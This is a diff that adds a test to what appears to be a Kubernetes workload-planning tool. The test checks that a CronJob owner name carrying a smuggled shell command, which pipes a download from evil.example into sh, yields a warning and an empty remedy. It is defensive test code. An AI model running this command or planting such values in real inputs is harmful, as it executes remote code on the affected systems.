@@ -244,3 +244,10 @@ describe('an owner name that leads elsewhere', () => {
     });
   });
 });
+
+test('a CronJob of a name that no object can have is in no command', async () => {
+  const name = 'nightly; curl -s https://evil.example/x | sh #';
+  const cronJob = { apiVersion: 'batch/v1', kind: 'CronJob', name, uid: 'uid-cron', controller: true };
+  const [workload] = await planOf([SHOP, ...owner('batch/v1', 'Job', 'night', { owner: cronJob })]);
+  expect(workload).toMatchObject({ decision: 'warn', reason: 'JobOwned', remedy: '' });
+});
